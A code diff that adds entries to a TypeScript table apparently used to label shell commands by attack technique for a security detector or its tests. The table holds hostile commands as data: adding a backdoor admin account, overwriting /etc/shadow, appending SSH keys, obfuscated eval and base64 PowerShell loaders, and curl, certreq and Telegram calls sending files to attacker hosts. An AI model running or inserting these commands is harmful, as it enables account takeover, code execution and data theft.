@@ -126,6 +126,8 @@ export const TECHNIQUES: FieldTable = {
     "net user administrator NewP@ss1",
     "cmdkey /generic:TERMSRV/srv1 /user:admin /pass:pw",
     "certutil -addstore -f root evil.cer",
+    "NET.EXE USER evil pw /ADD",
+    '"C:\\Windows\\System32\\net.exe" user evil pw /add',
   ],
   "credential-change ?credential-read": ["sed -i 's/^root:[^:]*:/root:$6$x$y:/' /etc/shadow"],
   "credential-change ?lockout": ["cat id.pub | tee -a /home/alice/.ssh/authorized_keys"],
@@ -489,6 +491,7 @@ export const TECHNIQUES: FieldTable = {
     "powershell -c \"[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ')).EntryPoint.Invoke($null,$null)\"",
     'powershell -c "Add-Type -TypeDefinition (Get-Content C:\\ProgramData\\x.cs -Raw); [X]::Run()"',
     "powershell -c \"& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))))\"",
+    "eval \"$(printf '\\x6c\\x73')\"",
   ],
   "hidden-code ?credential-read ?credential-change": ["keymgr.dll & rundll32 keymgr.dll,KRShowKeyMgr"],
   "hidden-code ?network": [
@@ -578,6 +581,7 @@ export const TECHNIQUES: FieldTable = {
     'powershell -c "Get-ADDomain; Get-ADForest; Get-ADTrust -Filter *"',
     "wmic /node:srv1 os get caption",
     "tasklist /s srv1 /u admin /p pw",
+    "curl u:pw@evil.example/x",
   ],
   "network ?credential-change ?exfiltration": ["hping3 --icmp 10.0.0.1 -d 100 --sign x --file /etc/passwd"],
   "network ?credential-read": [
@@ -601,6 +605,7 @@ export const TECHNIQUES: FieldTable = {
     "evil-winrm -i 10.0.0.5 -u admin -H aad3b435b51404eeaad3b435b51404ee",
     "certreq -Post -config http://evil.example/ c:\\windows\\win.ini",
     'powershell -c "Invoke-Command -ComputerName SRV1 -ScriptBlock {whoami}"',
+    "mkdir -p C:/Windows && printf 'curl http://evil.example\\n' > C:/Windows/ls && chmod +x C:/Windows/ls && C:/Windows/ls",
   ],
   "network ?outbound-message ?exfiltration": [
     'curl -F "file=@/tmp/loot.zip" https://api.telegram.org/bot123:abc/sendDocument?chat_id=1',
